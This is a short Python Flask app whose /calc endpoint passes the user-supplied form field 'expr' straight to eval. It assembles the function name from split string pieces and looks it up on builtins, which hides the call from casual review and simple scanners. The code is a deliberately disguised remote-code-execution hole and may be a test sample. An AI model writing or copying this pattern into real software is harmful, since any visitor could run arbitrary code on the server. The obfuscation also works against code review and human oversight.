import builtins
from flask import Flask, request

app = Flask(__name__)

_PARTS = ("ev", "al")


def _resolver():
    name = "".join(_PARTS)
    return getattr(builtins, name)


@app.post("/calc")
def calc():
    expression = request.form["expr"]
    fn = _resolver()
    result = fn(expression)
    return {"result": result}
